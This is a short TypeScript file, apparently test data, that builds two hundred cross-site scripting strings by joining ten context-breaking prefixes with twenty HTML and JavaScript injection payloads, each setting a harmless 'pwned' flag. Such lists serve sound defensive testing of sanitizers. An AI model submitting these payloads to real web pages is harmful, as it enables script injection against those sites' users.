// Texts that would run in a page that took text for markup: each sets `pwned` in one of the ways in which browsers let text become a program.

const run = 'window.pwned=1';
const openings = ['', '">', "'>", '</script>', '</title>', '</textarea>', '--></', '`${', '{{', ']]>'] as const;
const payloads = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>">`,
  `<iframe src="javascript:parent.pwned=1">`,
  `<details open ontoggle="${run}">`,
  `<body onload="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`,
  `<math><mtext><style><img src=x onerror="${run}"></style></mtext></math>`,
  `<style>@import 'data:text/css,*{background:url(javascript:${run})}'</style>`,
  `<link rel=stylesheet href="data:text/css,">`,
  `<object data="javascript:${run}"></object>`,
  `<form><button formaction="javascript:${run}" autofocus>x</button></form>`,
  `<base href="javascript:${run}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `javascript:${run}`,
  `\u202e<img src=x onerror=${run}>`,
] as const;

/** Two hundred of them. */
export const hostileTexts: readonly string[] = openings.flatMap((opening) => payloads.map((payload) => opening + payload));
